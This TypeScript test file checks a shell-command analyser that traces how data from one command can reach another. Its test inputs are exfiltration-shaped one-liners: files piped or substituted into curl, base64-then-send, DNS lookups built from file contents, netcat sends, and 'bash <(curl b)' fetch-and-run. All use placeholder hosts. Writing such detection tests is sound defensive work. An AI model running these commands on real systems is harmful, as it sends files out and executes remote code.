import { expect, test } from "vitest";
import { diskWorld } from "../../machine/index.ts";
import { readShell } from "./index.ts";

const world = diskWorld({ home: "/home/me", path: "/usr/bin:/bin" });
const read = (command: string) =>
  readShell(command, { cwd: "/home/me/app", projectRoot: "/home/me/app", world, written: new Set() });

/** "a>b": what a makes may reach b. */
const links = (command: string): string[] => {
  const { commands } = read(command);
  const found = commands.flatMap((to) =>
    (to.fedBy ?? []).flatMap(([from, end]) =>
      commands.slice(from, end).map((one) => `${one.name ?? "-"}>${to.name ?? "-"}`),
    ),
  );
  return [...new Set(found)].sort();
};

test.each<[command: string, links: string[]]>([
  ["cat a; curl b", []],
  ["cat a | curl -d @- b", ["cat>curl"]],
  ["cat a | base64 | curl -d @- b", ["base64>curl", "cat>base64"]],
  ['curl -d "$(cat a)" b', ["cat>curl"]],
  ["curl -d `cat a` b", ["cat>curl"]],
  ['X=$(cat a); curl -d "$X" b', ["cat>curl"]],
  ['export X=$(cat a); Y=$X; curl "b?q=${Y}"', ["cat>curl", "cat>export"]],
  ['X="$(cat a)" curl b', ["cat>curl"]],
  ['cat a | while read -r line; do curl "b?q=$line"; done', ["cat>curl", "cat>read"]],
  ["for x in $(cat a); do host $x.b; done", ["cat>host"]],
  ['send() { curl -d "$1" b; }; send "$(cat a)"', ["cat>curl", "cat>send"]],
  ["cat a | sudo bash -c 'curl -d @- b'", ["bash>curl", "cat>bash", "cat>curl"]],
  ['bash -c "$(curl b)"', ["curl>bash"]],
  ["cat a | tee >(curl -d @- b)", ["cat>curl", "cat>tee", "curl>tee", "tee>curl"]],
  ["bash <(curl b)", ["curl>bash"]],
  ["nc b 1 <<< $(cat a)", ["cat>nc"]],
])("%s", (command, expected) => {
  expect(links(command)).toEqual(expected);
});

test("a group's redirection gets what the group prints, and gives what it reads", () => {
  const { commands } = read("{ cat a; } > f");
  const target = commands.findIndex(({ effects }) => effects.some((effect) => effect.do === "write"));
  const cat = commands.findIndex(({ name }) => name === "cat");
  expect(commands[target]?.fedBy?.some(([from, to]) => from <= cat && cat < to)).toBe(true);
});
